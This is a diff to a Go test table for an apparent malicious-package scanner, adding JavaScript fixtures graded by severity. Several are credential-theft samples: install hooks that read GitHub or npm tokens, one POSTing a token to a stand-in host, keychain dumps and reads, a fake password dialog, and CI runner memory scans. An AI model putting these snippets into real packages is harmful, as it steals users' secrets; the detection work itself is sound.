@@ -96,12 +96,25 @@ func TestFileAccess(t *testing.T) {
 			"i.js": `const t = require("child_process").execSync("gh auth token").toString().trim(); fetch("https://c.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
 		{"npm_token_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `require("child_process").execSync("npm config get //registry.example.invalid/:_authToken")`}, finding.SeverityHigh},
+		// macOS's keychain, the subcommand passed in an argument array
+		{"keychain_other_app", map[string]string{"k.js": `const { execFileSync } = require("child_process"); const sec = a => execFileSync("security", a, { encoding: "utf8" }); module.exports = () => sec(["find-generic-password", "-w", "-s", "Chrome Safe Storage"])`}, finding.SeverityHigh},
+		{"keychain_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node k.js"}}`,
+			"k.js": `const { execFileSync } = require("child_process"); const sec = a => execFileSync("security", a); sec(["find-internet-password", "-w", "-s", "github.com"])`}, finding.SeverityHigh},
+		{"keychain_own_item", map[string]string{"k.js": `const { execFile } = require("child_process"); exports.get = (svc, acct, cb) => execFile("security", ["find-generic-password", "-w", "-s", svc, "-a", acct], cb)`}, finding.SeverityLow},
+		// a CI runner's memory searched for its secrets (tj-actions)
+		{"runner_memory_scan", map[string]string{"d.js": "const fs = require(\"fs\"); for (const pid of fs.readdirSync(\"/proc\")) { if (fs.readFileSync(`/proc/${pid}/cmdline`, \"utf8\").includes(\"Runner.Worker\")) { const fd = fs.openSync(`/proc/${pid}/mem`, \"r\"); } }"}, finding.SeverityCritical},
+		// a process's own memory statistics are not its memory
+		{"proc_status", map[string]string{"d.js": `const s = require("fs").readFileSync("/proc/self/status", "utf8"); module.exports = /VmRSS:\s+(\d+)/.exec(s)[1]`}, finding.SeverityNone},
+		// one store's several files are one store: a Kubernetes client
+		{"kube_client", map[string]string{"config.js": `const fs = require("fs"), path = require("path"), os = require("os"); const SA = "/var/run/secrets/kubernetes.io/serviceaccount";
+const files = (process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config")).split(path.delimiter);
+exports.inCluster = () => process.env.KUBERNETES_SERVICE_HOST && { ca: fs.readFileSync(path.join(SA, "ca.crt")), token: fs.readFileSync(path.join(SA, "token"), "utf8"), ns: fs.readFileSync(path.join(SA, "namespace"), "utf8") }`}, finding.SeverityLow},
 		{"gh_token_release_tool", map[string]string{"release.js": `const token = process.env.GITHUB_TOKEN || require("child_process").execSync("gh auth token").toString().trim()`}, finding.SeverityLow},
 		{"keychain_dump_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `require("child_process").execSync("security dump-keychain -d login.keychain")`}, finding.SeverityHigh},
 		{"password_dialog_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": "require(\"child_process\").execSync(`osascript -e 'display dialog \"Password:\" default answer \"\" with hidden answer'`)"}, finding.SeverityHigh},
-		{"runner_memory", map[string]string{"index.js": "const fs = require(\"fs\"); const pid = find(\"Runner.Worker\"); fs.readFileSync(`/proc/${pid}/maps`); fs.createReadStream(`/proc/${pid}/mem`)"}, finding.SeverityHigh},
+		{"runner_memory", map[string]string{"index.js": "const fs = require(\"fs\"); const pid = find(\"Runner.Worker\"); fs.readFileSync(`/proc/${pid}/maps`); fs.createReadStream(`/proc/${pid}/mem`)"}, finding.SeverityCritical},
 		{"proc_stat", map[string]string{"index.js": "require(\"fs\").readFileSync(`/proc/${pid}/stat`, \"utf8\")"}, finding.SeverityNone},
 		// machine credentials: cloud metadata, in-cluster tokens, gh's hosts.yml
 		{"imds_credentials", map[string]string{"index.js": `require("http").get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", cb)`}, finding.SeverityMedium},
